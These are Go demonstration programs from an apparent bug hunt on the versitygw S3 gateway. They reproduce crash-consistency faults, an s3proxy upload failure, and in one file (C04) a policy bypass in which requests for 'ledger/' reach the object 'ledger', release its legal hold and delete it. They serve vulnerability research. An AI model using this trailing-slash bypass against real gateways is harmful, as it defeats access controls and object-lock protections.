			return res, cps, fmt.Errorf("page has %d entries, max-keys %d", n, max)
		}
		for _, v := range out.Versions {
			res = append(res, ver{key: *v.Key, id: aws.ToString(v.VersionId), latest: aws.ToBool(v.IsLatest), size: aws.ToInt64(v.Size), etag: aws.ToString(v.ETag), mod: aws.ToTime(v.LastModified)})
		}
		for _, v := range out.DeleteMarkers {
			res = append(res, ver{key: *v.Key, id: aws.ToString(v.VersionId), latest: aws.ToBool(v.IsLatest), marker: true, mod: aws.ToTime(v.LastModified)})
		}
		for _, c := range out.CommonPrefixes {
			cps = append(cps, aws.ToString(c.Prefix))
		}
		if !aws.ToBool(out.IsTruncated) {
			return res, cps, nil
		}
		km, vm = out.NextKeyMarker, out.NextVersionIdMarker
	}
	return res, cps, fmt.Errorf("listing did not terminate")
}

func apiCode(err error) string {
	var ae smithy.APIError
	if errors.As(err, &ae) {
		return ae.ErrorCode()
	}
	if err != nil {
		return err.Error()
	}
	return ""
}
