//go:build huntdemo

// C09 finding 3: crash point in DeleteObject?versionId=<current version>.
//
// posix.DeleteObject first unlinks the current version and only afterwards
// copies its predecessor from the versioning directory to the object path.
// If the gateway dies (or any of the later steps fails) in between, the key
// has no file in the bucket any more, and because ListObjectVersions, GET and
// HEAD ?versionId= all start from that file, every remaining version of the
// key becomes invisible and unreadable although none of them was deleted.
//
// The crash is simulated by freezing the request goroutine at the first
// metadata-store call that follows the unlink (meta.DeleteAttributes, a no-op
// for the xattr store) and then "restarting": a second gateway instance is
// built over the same directories with the plain xattr metadata store.
package main

import (
	"context"
	"fmt"
	"os"
	"sync/atomic"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/versity/versitygw/backend/meta"
)

// crashMeta forwards to the real metadata store; when armed, the process
// "dies" (the goroutine never continues) at DeleteAttributes(bucket, key).
type crashMeta struct {
	meta.MetadataStorer
	armed  atomic.Bool
	bucket string
	key    string
	hit    chan struct{}
}

func (c *crashMeta) DeleteAttributes(bucket, object string) error {
	if c.armed.Load() && bucket == c.bucket && object == c.key {
		c.armed.Store(false)
		close(c.hit)
		select {} // kill -9 here
	}
	return c.MetadataStorer.DeleteAttributes(bucket, object)
}

func main() {
	b, k := "bkt", "doc"
	cm := &crashMeta{MetadataStorer: meta.XattrMeta{}, bucket: b, key: k, hit: make(chan struct{})}
	g1 := startGWOn("", cm)
	g1.mkBucket(b)
	g1.setVersioning(b, types.BucketVersioningStatusEnabled)
	v1 := g1.put(b, k, "V1-data")
	v2 := g1.put(b, k, "V2-data")
	v3 := g1.put(b, k, "V3-data")
	l, err := g1.listAll(b, 0)
	must(err)
	fmt.Println("before:", l)

	// DELETE ?versionId=<current>; the gateway dies right after the unlink
	cm.armed.Store(true)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	_, err = g1.cl.DeleteObject(ctx, &s3.DeleteObjectInput{Bucket: &b, Key: &k, VersionId: &v3})
	cancel()
	select {
	case <-cm.hit:
	default:
		must(fmt.Errorf("crash point not reached (delete answered: %v)", err))
	}
	fmt.Println("gateway killed inside DeleteObject?versionId=" + v3 + " (client saw: request aborted)")

	// restart over the same directories
	g2 := startGWOn(g1.dir, meta.XattrMeta{})
	var bad []string
	l, err = g2.listAll(b, 0)
	must(err)
	fmt.Println("after restart, ListObjectVersions:", l)
	ids := map[string]bool{}
	for _, v := range l {
		ids[v.id] = true
	}
	// V1 and V2 were never deleted: they must be listed and readable. (V3
	// may be either still there or gone, the delete was not acknowledged.)
	for _, w := range []struct{ id, data string }{{v1, "V1-data"}, {v2, "V2-data"}} {
		if !ids[w.id] {
			bad = append(bad, "version "+w.id+" not listed")
		}
		body, _, err := g2.get(b, k, w.id)
		if err != nil || body != w.data {
			bad = append(bad, fmt.Sprintf("GET ?versionId=%s: %q %s (want %q)", w.id, body, apiCode(err), w.data))
		}
	}
	body, _, err := g2.get(b, k, "")
	if err != nil || (body != "V2-data" && body != "V3-data") {
		bad = append(bad, fmt.Sprintf("GET %s: %q %s (want the previous version V2-data re-exposed, or V3-data)", k, body, apiCode(err)))
	}
	_, err = g2.cl.DeleteBucket(bg, &s3.DeleteBucketInput{Bucket: &b})
	fmt.Println("DeleteBucket of the bucket that lists as empty:", apiCode(err))
	ents, _ := os.ReadDir(g1.vdir + "/" + b)
	fmt.Printf("versioning directory still holds %d entries for the bucket\n", len(ents))

	code := 0
	if len(bad) > 0 {
		fmt.Printf("VIOLATION C09: after a crash inside DeleteObject?versionId=<current> the versions that were never deleted are neither listed nor retrievable: %v\n", bad)
		code = 1
	} else {
		fmt.Println("OK: remaining versions are listed and retrievable")
	}
	os.RemoveAll(g1.dir)
	os.Exit(code)
}
