//go:build huntdemo

// C11 finding 3: directories that hold nothing are left behind by a crash
// (they are made before the publication and pruned after the removal, in
// separate steps), no listing shows them, but DeleteBucket counts them: the
// bucket that lists no key, no version and no upload cannot be deleted.
//
// Scenario A (versioning directory, xattr store): DeleteObject of a
//
//	non-current version by id, killed after the version file has been
//	removed and before its (now empty) hash directories are pruned.
//
// Scenario B (versioning directory, xattr store): overwriting PutObject in an
//
//	Enabled bucket, killed inside createObjVersion after the hash
//	directories of the key have been made and before the copy is linked.
//
// Scenario C (no versioning): PutObject of the new key "a/b/c", killed after
//
//	the parent directories have been made and before the object is renamed
//	into place.
//
// After the restart the demo empties the bucket through the API (deletes
// every version ListObjectVersions shows), checks that all listings are
// empty and calls DeleteBucket.
package main

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/aws/smithy-go"
)

const bucket = "c11-bucket"

func put(gw *gateway, key, body string) string {
	out, err := gw.cli.PutObject(ctxT(), &s3.PutObjectInput{
		Bucket: aws.String(bucket), Key: aws.String(key),
		Body: bytes.NewReader([]byte(body)),
	})
	must(err, "PutObject "+key)
	return aws.ToString(out.VersionId)
}

func crashPhase() {
	root, vdir, sc := os.Getenv("HUNT_ROOT"), os.Getenv("HUNT_VDIR"), os.Getenv("HUNT_SCENARIO")
	if sc == "C" {
		vdir = ""
	}
	gw, err := startGateway(root, vdir, false)
	must(err, "start gateway")

	_, err = gw.cli.CreateBucket(ctxT(), &s3.CreateBucketInput{Bucket: aws.String(bucket)})
	must(err, "CreateBucket")
	if sc != "C" {
		_, err = gw.cli.PutBucketVersioning(ctxT(), &s3.PutBucketVersioningInput{
			Bucket: aws.String(bucket),
			VersioningConfiguration: &types.VersioningConfiguration{
				Status: types.BucketVersioningStatusEnabled,
			},
		})
		must(err, "PutBucketVersioning")
	}

	switch sc {
	case "A":
		v1 := put(gw, "k", "one")
		put(gw, "k", "two")
		// DeleteObject k?versionId=v1: os.Remove(version file), then
		// meta.DeleteAttributes(versionPath, v1), then removeParents
		gw.meta.match = func(c call) bool {
			return c.op == "DeleteAll" && c.object == v1 && strings.HasPrefix(c.bucket, vdir)
		}
		gw.meta.armed.Store(true)
		_, err = gw.cli.DeleteObject(ctxT(), &s3.DeleteObjectInput{
			Bucket: aws.String(bucket), Key: aws.String("k"), VersionId: aws.String(v1),
		})
		must(err, "DeleteObject (crash point not reached)")
	case "B":
		put(gw, "k", "one")
		// createObjVersion: MkdirAll(hash directories), then the attributes
		// of the current version are stored on the copy, then link()
		gw.meta.match = func(c call) bool {
			return c.op == "Store" && strings.HasPrefix(c.bucket, vdir)
		}
		gw.meta.armed.Store(true)
		put(gw, "k", "two")
	case "C":
		// PutObject: MkdirAll(parent directories), attributes on the temp
		// file, link()
		gw.meta.match = func(c call) bool {
			return c.op == "Store" && c.object == "a/b/c" && c.attr == "etag"
		}
		gw.meta.armed.Store(true)
		put(gw, "a/b/c", "data")
	}
	os.Exit(0)
}

// scenario returns "" when the bucket could be deleted
func scenario(sc, what string) string {
	base, root, vdir := scratch("c11hunt3" + sc)
	defer os.RemoveAll(base)

	runCrashPhase("HUNT_ROOT="+root, "HUNT_VDIR="+vdir, "HUNT_SCENARIO="+sc)

	// restart. posix.New changes the working directory: one gateway per
	// process, so each scenario is checked in a child as well
	if sc == "C" {
		vdir = ""
	}
	gw, err := startGateway(root, vdir, false)
	must(err, "restart gateway")

	// empty the bucket through the API
	nver := 0
	if sc != "C" {
		for round := 0; round < 5; round++ {
			lv, err := gw.cli.ListObjectVersions(ctxT(), &s3.ListObjectVersionsInput{Bucket: aws.String(bucket)})
			must(err, "ListObjectVersions")
			if len(lv.Versions)+len(lv.DeleteMarkers) == 0 {
				break
			}
			for _, v := range lv.Versions {
				_, err := gw.cli.DeleteObject(ctxT(), &s3.DeleteObjectInput{Bucket: aws.String(bucket), Key: v.Key, VersionId: v.VersionId})
				must(err, "DeleteObject version")
				nver++
			}
			for _, v := range lv.DeleteMarkers {
				_, err := gw.cli.DeleteObject(ctxT(), &s3.DeleteObjectInput{Bucket: aws.String(bucket), Key: v.Key, VersionId: v.VersionId})
				must(err, "DeleteObject marker")
				nver++
			}
		}
		lv, err := gw.cli.ListObjectVersions(ctxT(), &s3.ListObjectVersionsInput{Bucket: aws.String(bucket)})
		must(err, "ListObjectVersions")
		if n := len(lv.Versions) + len(lv.DeleteMarkers); n != 0 {
			return fmt.Sprintf("%d versions cannot be removed", n)
		}
	}
	lo, err := gw.cli.ListObjectsV2(ctxT(), &s3.ListObjectsV2Input{Bucket: aws.String(bucket)})
	must(err, "ListObjectsV2")
	for _, o := range lo.Contents {
		_, err := gw.cli.DeleteObject(ctxT(), &s3.DeleteObjectInput{Bucket: aws.String(bucket), Key: o.Key})
		must(err, "DeleteObject")
		nver++
	}
	lo, err = gw.cli.ListObjectsV2(ctxT(), &s3.ListObjectsV2Input{Bucket: aws.String(bucket)})
	must(err, "ListObjectsV2")
	lu, err := gw.cli.ListMultipartUploads(ctxT(), &s3.ListMultipartUploadsInput{Bucket: aws.String(bucket)})
	must(err, "ListMultipartUploads")

	left := tree(filepath.Join(root, bucket))
	putRes := ""
	if sc == "C" && len(lo.Contents) == 0 {
		// no key exists: a later upload to the key "a/b" must not be refused
		// because of what the crashed upload of "a/b/c" left behind
		_, err := gw.cli.PutObject(ctxT(), &s3.PutObjectInput{
			Bucket: aws.String(bucket), Key: aws.String("a/b"), Body: bytes.NewReader([]byte("x")),
		})
		fmt.Printf("scenario C: PutObject a/b into the bucket that lists no key: %s\n", errText(err))
		ld, lerr := gw.cli.ListObjectsV2(ctxT(), &s3.ListObjectsV2Input{Bucket: aws.String(bucket), Delimiter: aws.String("/")})
		must(lerr, "ListObjectsV2 delimiter")
		for _, cp := range ld.CommonPrefixes {
			fmt.Printf("scenario C: ListObjectsV2 delimiter=/ shows CommonPrefix %q although no key has that prefix\n", aws.ToString(cp.Prefix))
		}
		if err != nil {
			putRes = "; PutObject of key a/b is refused with " + errCode(err) + " although no key exists"
		} else {
			_, err = gw.cli.DeleteObject(ctxT(), &s3.DeleteObjectInput{Bucket: aws.String(bucket), Key: aws.String("a/b")})
			must(err, "DeleteObject a/b")
		}
	}
	if vdir != "" {
		left = append(left, tree(filepath.Join(vdir, bucket))...)
	}
	_, err = gw.cli.DeleteBucket(ctxT(), &s3.DeleteBucketInput{Bucket: aws.String(bucket)})
	fmt.Printf("scenario %s (%s):\n  after restart %d listed versions/objects deleted; now %d keys, %d uploads listed\n  left on disk: %v\n  DeleteBucket: %s\n",
		sc, what, nver, len(lo.Contents), len(lu.Uploads), left, errText(err))
	if err != nil {
		return fmt.Sprintf("%s: DeleteBucket of the bucket that lists no key, no version and no upload answers %s%s", sc, errCode(err), putRes)
	}
	if putRes != "" {
		return sc + ": " + putRes[2:]
	}
	return ""
}

// tree lists what is below dir, the temp directory aside
func tree(dir string) []string {
	var out []string
	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || path == dir {
			return nil
		}
		if d.Name() == ".sgwtmp" {
			return fs.SkipDir
		}
		rel, _ := filepath.Rel(filepath.Dir(filepath.Dir(dir)), path)
		if d.IsDir() {
			rel += "/"
		}
		out = append(out, rel)
		return nil
	})
	return out
}

func errText(err error) string {
	if err == nil {
		return "ok"
	}
	var ae smithy.APIError
	if errors.As(err, &ae) {
		return ae.ErrorCode() + ": " + ae.ErrorMessage()
	}
	return err.Error()
}

func main() {
	if os.Getenv("HUNT_PHASE") == "crash" {
		crashPhase()
		return
	}
	if sc := os.Getenv("HUNT_CHECK"); sc != "" {
		// child that restarts the gateway of one scenario and checks it
		if r := scenario(sc, os.Getenv("HUNT_WHAT")); r != "" {
			fmt.Println("RESULT " + r)
			os.Exit(1)
		}
		os.Exit(0)
	}

	var bad []string
	for _, s := range [][2]string{
		{"A", "versioned, kill in DeleteObject?versionId of a non-current version between unlink and pruning"},
		{"B", "versioned, kill in an overwriting PutObject inside createObjVersion"},
		{"C", "unversioned, kill in PutObject of new key a/b/c between mkdir of the parents and rename"},
	} {
		out, code := runChild("HUNT_CHECK="+s[0], "HUNT_WHAT="+s[1])
		for _, line := range strings.Split(out, "\n") {
			if strings.HasPrefix(line, "RESULT ") {
				bad = append(bad, strings.TrimPrefix(line, "RESULT "))
			} else if line != "" {
				fmt.Println(line)
			}
		}
		if code != 0 && code != 1 {
			fmt.Printf("SETUP PROBLEM: scenario %s ended with %d\n", s[0], code)
			os.Exit(2)
		}
	}
	if len(bad) == 0 {
		fmt.Println("OK: after every crash the emptied bucket can be deleted")
		os.Exit(0)
	}
	fmt.Printf("VIOLATION: directories left by the crash hold no key, version or upload any listing shows, but keep the bucket from being deleted: %s\n", strings.Join(bad, "; "))
	os.Exit(1)
}
