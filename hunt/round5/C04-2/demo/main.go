//go:build huntdemo

// Finding 2 (C04): the object tagging, legal hold and retention operations
// resolve the key "ledger/" to the file object "ledger" (the trailing
// separator is cleaned away by filepath.Join). The access decision is taken
// on the spelled key: a Deny on the object is bypassed, its legal hold is
// released through the alias and the protected object is deleted.
package main

import (
	"fmt"
	"os"
	"strings"
)

func step(tag string, r resp) resp {
	fmt.Printf("%-62s -> %d %s\n", tag, r.code, short(r.body))
	return r
}

func main() {
	g := startGW(gwOpts{})
	code := run(g)
	g.cleanup()
	os.Exit(code)
}

func run(g *gw) int {
	alice := g.mkuser("alice", "alicesecret", "user")
	on := []byte(`<LegalHold><Status>ON</Status></LegalHold>`)
	off := []byte(`<LegalHold><Status>OFF</Status></LegalHold>`)

	step("root  PUT /bkt (object lock enabled)", g.do(rootCred, "PUT", "/bkt", nil, map[string]string{"x-amz-bucket-object-lock-enabled": "true"}))
	step("root  PUT /bkt/ledger (tag class=secret)", g.do(rootCred, "PUT", "/bkt/ledger", []byte("LEDGER"), map[string]string{"x-amz-tagging": "class=secret"}))
	if r := step("root  PUT /bkt/ledger?legal-hold ON", g.do(rootCred, "PUT", "/bkt/ledger?legal-hold", on, nil)); r.code != 200 {
		fmt.Println("SETUP: legal hold refused")
		return 2
	}
	pol := `{"Statement":[` +
		`{"Effect":"Allow","Principal":"alice","Action":"s3:*","Resource":["arn:aws:s3:::bkt","arn:aws:s3:::bkt/*"]},` +
		`{"Effect":"Deny","Principal":"alice","Action":["s3:PutObjectLegalHold","s3:PutObjectRetention","s3:GetObjectTagging","s3:PutObjectTagging"],"Resource":"arn:aws:s3:::bkt/ledger"}]}`
	if r := step("root  PUT /bkt?policy (Deny alice legal-hold/tagging on bkt/ledger)", g.do(rootCred, "PUT", "/bkt?policy", []byte(pol), nil)); r.code != 200 {
		fmt.Println("SETUP: policy refused")
		return 2
	}

	// what the configuration is meant to guarantee
	if r := step("alice PUT /bkt/ledger?legal-hold OFF", g.do(alice, "PUT", "/bkt/ledger?legal-hold", off, nil)); r.code != 403 {
		fmt.Println("SETUP: expected 403")
		return 2
	}
	if r := step("alice GET /bkt/ledger?tagging", g.do(alice, "GET", "/bkt/ledger?tagging", nil, nil)); r.code != 403 {
		fmt.Println("SETUP: expected 403")
		return 2
	}
	if r := step("alice DELETE /bkt/ledger (held)", g.do(alice, "DELETE", "/bkt/ledger", nil, nil)); r.code < 400 {
		fmt.Println("SETUP: delete of a held object must be refused")
		return 2
	}
	// "ledger/" is not an object of the bucket
	if r := step("alice GET /bkt/ledger/", g.do(alice, "GET", "/bkt/ledger/", nil, nil)); r.code != 404 {
		fmt.Println("SETUP: expected 404")
		return 2
	}

	var bad []string
	r := step("alice GET /bkt/ledger/?tagging", g.do(alice, "GET", "/bkt/ledger/?tagging", nil, nil))
	if r.code == 200 && strings.Contains(r.body, "secret") {
		bad = append(bad, "GET /bkt/ledger/?tagging returned the tags of 'ledger'")
	}
	r = step("alice PUT /bkt/ledger/?legal-hold OFF", g.do(alice, "PUT", "/bkt/ledger/?legal-hold", off, nil))
	h := step("root  GET /bkt/ledger?legal-hold", g.do(rootCred, "GET", "/bkt/ledger?legal-hold", nil, nil))
	if r.code == 200 && strings.Contains(h.body, "<Status>OFF</Status>") {
		bad = append(bad, "PUT /bkt/ledger/?legal-hold released the legal hold of 'ledger'")
	}
	step("alice DELETE /bkt/ledger", g.do(alice, "DELETE", "/bkt/ledger", nil, nil))
	if r := step("root  GET /bkt/ledger", g.do(rootCred, "GET", "/bkt/ledger", nil, nil)); r.code == 404 {
		bad = append(bad, "the held object was then deleted")
	}
	if len(bad) == 0 {
		fmt.Println("OK: requests naming the non-existent key 'ledger/' do not touch the object 'ledger'")
		return 0
	}
	fmt.Println("VIOLATION: requests naming the key 'ledger/' (no such object; access decided on 'ledger/', past the Deny on 'ledger') were resolved to the object 'ledger': " + strings.Join(bad, "; "))
	return 1
}
