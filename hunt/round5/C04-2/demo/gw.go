//go:build huntdemo

package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

type gw struct {
	base, root, ver, side, iamdir string
	addr                          string
	be                            backend.Backend
	iam                           auth.IAMService
}

type cred struct{ access, secret string }

var rootCred = cred{"rootaccess", "rootsecret"}

type gwOpts struct {
	sidecar    bool
	versioning bool
	verdir     string // override
	noTmp      bool
	readonly   bool
}

func startGW(o gwOpts) *gw {
	base, err := os.MkdirTemp("/dev/shm", "hunt-C04-")
	must(err)
	g := &gw{base: base, root: filepath.Join(base, "root"), ver: filepath.Join(base, "ver"), side: filepath.Join(base, "side"), iamdir: filepath.Join(base, "iam")}
	if o.verdir != "" {
		g.ver = o.verdir
	}
	for _, d := range []string{g.root, g.ver, g.side, g.iamdir} {
		must(os.MkdirAll(d, 0755))
	}
	var ms meta.MetadataStorer = meta.XattrMeta{}
	po := posix.PosixOpts{NewDirPerm: 0755, ForceNoTmpFile: o.noTmp}
	if o.sidecar {
		sc, err := meta.NewSideCar(g.side)
		must(err)
		ms = sc
		po.SideCarDir = g.side
	}
	if o.versioning {
		po.VersioningDir = g.ver
	}
	be, err := posix.New(g.root, ms, po)
	must(err)
	g.be = be
	iam, err := auth.New(&auth.Opts{Dir: g.iamdir, RootAccount: auth.Account{Access: rootCred.access, Secret: rootCred.secret, Role: auth.RoleAdmin}, CacheDisable: true})
	must(err)
	g.iam = iam
	app := fiber.New(fiber.Config{AppName: "versitygw", ServerHeader: "VERSITYGW", StreamRequestBody: true, DisableKeepalive: true, Network: fiber.NetworkTCP, DisableStartupMessage: true})
	opts := []s3api.Option{s3api.WithQuiet(), s3api.WithAdminServer()}
	if o.readonly {
		opts = append(opts, s3api.WithReadOnly())
	}
	_, err = s3api.New(app, be, middlewares.RootUserConfig{Access: rootCred.access, Secret: rootCred.secret}, ":0", "us-east-1", iam, nil, nil, nil, nil, opts...)
	must(err)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	must(err)
	g.addr = ln.Addr().String()
	go app.Listener(ln)
	time.Sleep(50 * time.Millisecond)
	return g
}

func (g *gw) cleanup() { os.RemoveAll(g.base) }

func must(err error) {
	if err != nil {
		fmt.Println("SETUP ERROR:", err)
		os.Exit(2)
	}
}

type resp struct {
	code int
	body string
	hdr  http.Header
}

// do sends a signed request. rawPathQuery is sent on the wire as is.
func (g *gw) do(c cred, method, rawPathQuery string, body []byte, hdrs map[string]string) resp {
	rawPath, rawQuery, _ := strings.Cut(rawPathQuery, "?")
	dec, err := url.PathUnescape(rawPath)
	if err != nil {
		dec = rawPath
	}
	u := &url.URL{Scheme: "http", Host: g.addr, Path: dec, RawPath: rawPath, RawQuery: rawQuery}
	if u.EscapedPath() != rawPath {
		u = &url.URL{Scheme: "http", Host: g.addr, Opaque: rawPath, RawQuery: rawQuery}
	}
	req, err := http.NewRequest(method, u.String(), bytes.NewReader(body))
	must(err)
	req.URL = u
	sum := sha256.Sum256(body)
	hexsum := hex.EncodeToString(sum[:])
	req.Header.Set("X-Amz-Content-Sha256", hexsum)
	for k, v := range hdrs {
		req.Header.Set(k, v)
	}
	signer := v4.NewSigner(func(o *v4.SignerOptions) { o.DisableURIPathEscaping = true })
	must(signer.SignHTTP(context.Background(), aws.Credentials{AccessKeyID: c.access, SecretAccessKey: c.secret}, req, hexsum, "s3", "us-east-1", time.Now()))
	cl := &http.Client{Transport: &http.Transport{DisableKeepAlives: true}}
	r, err := cl.Do(req)
	if err != nil {
		return resp{code: -1, body: err.Error()}
	}
	defer r.Body.Close()
	b, _ := io.ReadAll(r.Body)
	return resp{code: r.StatusCode, body: string(b), hdr: r.Header}
}

func (g *gw) mkuser(access, secret, role string) cred {
	r := g.do(rootCred, "PATCH", "/create-user", []byte(fmt.Sprintf(`<Account><Access>%s</Access><Secret>%s</Secret><Role>%s</Role></Account>`, access, secret, role)), nil)
	if r.code != 201 && r.code != 200 {
		fmt.Println("create-user:", r.code, r.body)
		os.Exit(2)
	}
	return cred{access, secret}
}

// snapshot of a directory tree: path -> content (files) / "<dir>" ; includes xattrs not.
func snapshot(dir string) map[string]string {
	m := map[string]string{}
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return nil
		}
		rel, _ := filepath.Rel(dir, p)
		if fi.IsDir() {
			m[rel] = "<dir>"
		} else {
			b, _ := os.ReadFile(p)
			m[rel] = string(b)
		}
		return nil
	})
	return m
}

func short(s string) string {
	if i := strings.Index(s, "<Error><Code>"); i >= 0 {
		if j := strings.Index(s[i:], "</Code>"); j >= 0 {
			return "Error " + s[i+13:i+j]
		}
	}
	s = strings.ReplaceAll(s, "\n", " ")
	s = strings.TrimPrefix(s, `<?xml version="1.0" encoding="UTF-8"?> `)
	if len(s) > 200 {
		return s[:200] + "..."
	}
	return s
}
