//go:build huntdemo

// C18 finding 2: with a plain http:// endpoint the s3proxy backend cannot
// upload anything: every PutObject / UploadPart with a non-empty body and no
// client supplied checksum answers 500 InternalError.
//
// The same program is run against the endpoint directly (bucket http-direct)
// and through a gateway that uses this endpoint (http://127.0.0.1:port) as
// its s3proxy backend (bucket http-proxy):
//
//	PUT  /<bucket>
//	PUT  /<bucket>/hello.txt              body "hello world"
//	GET  /<bucket>/hello.txt
//	POST /<bucket>/big.bin?uploads
//	PUT  /<bucket>/big.bin?partNumber=1&uploadId=...   body "part one"
//	PUT  /<bucket>/sum.txt                body "hello world" + x-amz-checksum-crc32 (control)
//
// exit 1: the client-visible results differ (property violated), exit 0: same.
package main

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"os"
	"regexp"
)

func main() {
	endpoint, proxy, cleanup := setup("c18hunt2", false) // plain http endpoint
	code := run(endpoint, proxy)
	cleanup()
	os.Exit(code)
}

var reUploadID = regexp.MustCompile(`<UploadId>([^<]+)</UploadId>`)

type outcome struct {
	create, put, get, mpCreate, part, putWithChecksum string
}

func program(g *gateway, bucket string) outcome {
	var o outcome
	o.create = g.do("", "", "PUT", "/"+bucket, nil, "").brief()
	o.put = g.do("", "", "PUT", "/"+bucket+"/hello.txt", map[string]string{"Content-Type": "text/plain"}, "hello world").brief()
	gr := g.do("", "", "GET", "/"+bucket+"/hello.txt", nil, "")
	o.get = gr.brief()
	if gr.Status == 200 {
		o.get += fmt.Sprintf(" %q", gr.Body)
	}
	cr := g.do("", "", "POST", "/"+bucket+"/big.bin?uploads", nil, "")
	o.mpCreate = cr.brief()
	if m := reUploadID.FindStringSubmatch(cr.Body); m != nil {
		o.part = g.do("", "", "PUT", "/"+bucket+"/big.bin?partNumber=1&uploadId="+m[1], nil, "part one").brief()
	}
	sum := make([]byte, 4)
	binary.BigEndian.PutUint32(sum, crc32.ChecksumIEEE([]byte("hello world")))
	o.putWithChecksum = g.do("", "", "PUT", "/"+bucket+"/sum.txt",
		map[string]string{"x-amz-checksum-crc32": base64.StdEncoding.EncodeToString(sum)}, "hello world").brief()
	return o
}

func run(endpoint, proxy *gateway) int {
	fmt.Println("endpoint:", endpoint.URL, " proxy gateway:", proxy.URL, "(s3proxy --endpoint", endpoint.URL+")")
	d := program(endpoint, "http-direct")
	p := program(proxy, "http-proxy")
	rows := []struct{ step, d, p string }{
		{"create bucket", d.create, p.create},
		{"put hello.txt (11 bytes, no checksum header)", d.put, p.put},
		{"get hello.txt", d.get, p.get},
		{"create multipart upload", d.mpCreate, p.mpCreate},
		{"upload part 1 (8 bytes, no checksum header)", d.part, p.part},
		{"put sum.txt with x-amz-checksum-crc32 (control)", d.putWithChecksum, p.putWithChecksum},
	}
	differ := false
	for _, r := range rows {
		mark := "same"
		if r.d != r.p {
			mark = "DIFFERENT"
			differ = true
		}
		fmt.Printf("%-50s direct: %-28s proxy: %-28s %s\n", r.step, r.d, r.p, mark)
	}
	if differ {
		fmt.Printf("VIOLATION: through the s3proxy gateway with a plain http endpoint PutObject answered %s and UploadPart %s (directly: %s and %s); nothing can be uploaded unless the client sends its own checksum\n",
			p.put, p.part, d.put, d.part)
		return 1
	}
	fmt.Println("ok: same results directly and through the s3proxy gateway")
	return 0
}
