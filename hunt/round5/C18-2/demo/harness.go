//go:build huntdemo

package main

// In-process harness: one "endpoint" gateway (s3api.New + posix backend on a
// scratch directory under /dev/shm) and one "proxy" gateway (s3api.New +
// s3proxy backend pointed at the endpoint gateway). Requests are plain signed
// HTTP requests, so what is compared is exactly what a client sees.

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/hex"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"regexp"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/backend/s3proxy"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
	"github.com/versity/versitygw/s3log"
)

const region = "us-east-1"

type gateway struct {
	URL    string
	Access string
	Secret string
	IAM    auth.IAMService
}

func freeAddr() string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	defer l.Close()
	return l.Addr().String()
}

func selfSigned() tls.Certificate {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		panic(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "127.0.0.1"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(24 * time.Hour),
		IPAddresses:  []net.IP{net.ParseIP("127.0.0.1")},
		KeyUsage:     x509.KeyUsageDigitalSignature,
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		panic(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

// startGateway serves be the way cmd/versitygw runGateway does.
func startGateway(be backend.Backend, access, secret, iamDir string, useTLS bool) *gateway {
	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		Network:               fiber.NetworkTCP,
		DisableStartupMessage: true,
	})
	iam, err := auth.New(&auth.Opts{
		RootAccount:  auth.Account{Access: access, Secret: secret, Role: auth.RoleAdmin},
		Dir:          iamDir,
		CacheDisable: true,
	})
	if err != nil {
		panic(err)
	}
	addr := freeAddr()
	opts := []s3api.Option{s3api.WithQuiet(), s3api.WithAdminServer()}
	scheme := "http://"
	if useTLS {
		opts = append(opts, s3api.WithTLS(selfSigned()))
		scheme = "https://"
	}
	var l s3log.AuditLogger
	srv, err := s3api.New(app, be, middlewares.RootUserConfig{Access: access, Secret: secret},
		addr, region, iam, l, l, nil, nil, opts...)
	if err != nil {
		panic(err)
	}
	go func() {
		if err := srv.Serve(); err != nil {
			fmt.Println("serve:", err)
		}
	}()
	for i := 0; i < 500; i++ {
		c, err := net.Dial("tcp", addr)
		if err == nil {
			c.Close()
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	return &gateway{URL: scheme + addr, Access: access, Secret: secret, IAM: iam}
}

// setup returns the endpoint gateway (posix, versioning directory configured)
